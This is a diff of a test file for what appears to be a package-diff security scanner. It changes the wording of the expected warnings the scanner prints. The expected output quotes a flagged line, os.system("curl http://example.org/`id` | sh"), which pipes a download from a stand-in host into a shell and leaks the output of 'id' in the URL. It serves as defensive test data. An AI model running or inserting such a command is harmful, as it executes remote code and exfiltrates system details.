@@ -74,7 +74,7 @@ def diff(place: WorkingDirectory, *words: str | Path) -> Outcome:
 
 CODE = """
 code of lens 1.0 → 1.1: 4 files changed, 2 files added
-  ! lens.py:7 starts programs (os.system): os.system("curl http://example.org/`id` | sh")
+  ! starts programs, os.system: lens.py:7: os.system("curl http://example.org/`id` | sh")
   ! new commands: lens-tool
   ~ lens-1.1.dist-info/METADATA
       @@ -0,0 +1 @@
@@ -104,7 +104,7 @@ code of lens 1.0 → 1.1: 4 files changed, 2 files added
       +import lens
 
 code of numpy 1.0, which is new: 3 files added
-  ! numpy/__init__.py:1 calls native code (ctypes): import ctypes
+  ! calls native code, ctypes: numpy/__init__.py:1: import ctypes
   + numpy-1.0.dist-info/METADATA
   + numpy-1.0.dist-info/WHEEL
   + numpy/__init__.py
